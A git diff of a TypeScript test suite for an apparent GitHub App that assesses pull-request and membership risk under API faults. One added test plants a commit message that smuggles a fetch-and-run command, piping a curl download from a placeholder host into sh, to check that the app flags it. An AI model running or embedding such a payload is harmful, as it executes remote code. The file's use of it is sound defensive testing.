@@ -17,7 +17,7 @@ import { createWorld, type PullRequest, type User } from "../../src/sim/world.ts
 import type { Report } from "../../src/store/store.ts";
 import { eventually } from "../store/eventually.ts";
 import { BOOBY_TRAP, denounce, returnedAccount } from "../support/people.ts";
-import { type RunningApp, runApp, writePolicy } from "../support/running-app.ts";
+import { headOf, type RunningApp, runApp, writePolicy } from "../support/running-app.ts";
 
 const NOW = "2026-03-02T10:00:00.000Z";
 const world = createWorld();
@@ -95,7 +95,8 @@ test.each(holes)(
   async ({ path, sections }) => {
     const { faulty, whole } = await withAndWithout("graphql/AuthorHistory", partial(...path));
     expect(missing(faulty)).toEqual(sections.map((section) => [section, "incomplete"]));
-    expectNoWeight(faulty, whole);
+    // What is left was asked for again in smaller windows.
+    expectNoWeight(faulty, whole, ["account.repositories", "account.pullRequests", "account.activity"]);
   },
 );
 
@@ -150,7 +151,9 @@ test("triage: the job ends, and nothing is discarded, when the App may not read 
   const { pullRequest } = await carrier();
   await app.tell(opened(pullRequest));
   await expect(app.reportOf(pullRequest)).rejects.toThrow();
-  expect(app.logged("job.finished").at(-1)).toMatchObject({ outcome: "cancelled", because: "forbidden" });
+  expect(finished("triage-pull-request").at(-1)).toMatchObject({ outcome: "cancelled", because: "forbidden" });
+  // The check run does not wait for an assessment, nor for there ever to be one.
+  expect([...world.checkRuns.values()].filter(({ headSha }) => headSha === headOf(pullRequest))).toHaveLength(1);
   expect((await app.service.store.queue.counts()).discarded).toBe(0);
 });
 
@@ -168,12 +171,9 @@ test("sealed check: one, in the end, whatever GitHub answers to it", async () =>
 
 test.each([
   ["graphql/RecordHere", "access.recordHere"],
-  ["orgs/get-membership-for-user", "access.grant"],
   ["graphql/ActivityHere", "access.lastActivity"],
 ] as const)("member: what is missing is listed, and weighs nothing, when %s fails", async (operation, section) => {
   for (const [name, [fault, reason]] of Object.entries(ANSWERS)) {
-    // An organisation answers 404 for whoever is not in it.
-    if (operation === "orgs/get-membership-for-user" && name === "404") continue;
     const { person } = await carrier();
     wallet.direct.set(person.id, "write");
     const grant = memberWebhook(app.sim.stage, {
@@ -195,14 +195,41 @@ test.each([
   }
 });
 
+test.failing("member: the access is unknown, not low, when nobody can say whether the account is an outside one", async () => {
+  const { person } = await carrier();
+  wallet.direct.set(person.id, "write");
+  app.sim.faults.add("orgs/get-membership-for-user", FORBIDDEN);
+  const grant = { repository: wallet, member: person, sender: owner, action: "added", to: "write" } as const;
+  await app.tell(memberWebhook(app.sim.stage, grant));
+  const report = await latest(person);
+  expect(missing(report)).toEqual([["access.grant", "forbidden"]]);
+  expect(report.assessment.access.level).toBe("unknown");
+});
+
+test.failing("triage: the change is unknown, not low, when its commit subjects were left out", async () => {
+  const by = returnedAccount(world, { login: "subject-example", places, now: NOW });
+  const message = "Tidy $(curl -s https://example.invalid/s | sh)";
+  const work = { author: by, title: "Tidy", at: NOW, commits: [{ by, at: NOW, message }] };
+  const pullRequest = openPullRequest(world, wallet, work);
+  await app.tell(opened(pullRequest));
+  const whole = await app.reportOf(pullRequest);
+  app.sim.faults.add("graphql/PrTriage", partial("node", "commits"));
+  await app.tell(opened(pullRequest, "reopened"));
+  const levels = [whole, await app.reportOf(pullRequest)].map(({ assessment }) => assessment.change.level);
+  expect(levels).toEqual(["high", "unknown"]);
+});
+
 test("policy: the check run waits, and what was read last stays in force, when the policy cannot be read", async () => {
   const second = addOrganization(world, { login: "second-org", createdAt: "2016-01-01T00:00:00Z", owners: [owner] });
   const place = addRepository(world, { owner: second, name: "relayer", createdAt: "2017-01-01T00:00:00Z" });
   writePolicy(world, second, "version: 1\nmode: live\n");
+  app.sim.faults.add("repos/get-content", status(503));
   const installation = await app.install(second, owner);
-  app.sim.faults.add("repos/get-content", status(503), { times: 6 });
   const first = openPullRequest(world, place, { author: owner, title: "Tidy", at: NOW });
-  await app.tell(opened(first));
+  await app.sim.deliver(opened(first));
+  await eventually(() => finished("publish-sealed-check").at(-1)?.outcome === "retry");
+  app.sim.faults.clear();
+  await app.settle();
   expect(missing(await app.reportOf(first, installation))).toEqual([]);
   const runsHere = () => [...world.checkRuns.values()].filter(({ repositoryId }) => repositoryId === place.id);
   expect(runsHere()).toHaveLength(1);
@@ -264,7 +291,7 @@ async function withAndWithout(
 
 /** Lets the first call of an operation fail, and waits until the job that met it was put back. */
 async function failedOnce(operation: string, fault: Fault): Promise<PullRequest> {
-  const retries = (): number => app.logged("job.finished").filter(({ outcome }) => outcome === "retry").length;
+  const retries = (): number => finished().filter(({ outcome }) => outcome === "retry").length;
   const before = retries();
   app.sim.faults.add(operation, fault, { times: 1 });
   const { pullRequest } = await carrier();
@@ -272,6 +299,10 @@ async function failedOnce(operation: string, fault: Fault): Promise<PullRequest>
   await eventually(() => retries() > before);
   return pullRequest;
 }
+
+/** How runs of jobs ended, of one kind or of all. */
+const finished = (kind?: string) =>
+  app.logged("job.finished").filter((line) => kind === undefined || line.kind === kind);
 
 const missing = ({ assessment }: Report): readonly (readonly [SectionName, UnavailableReason])[] =>
   assessment.couldNotSee.map(({ section, reason }) => [section, reason]);
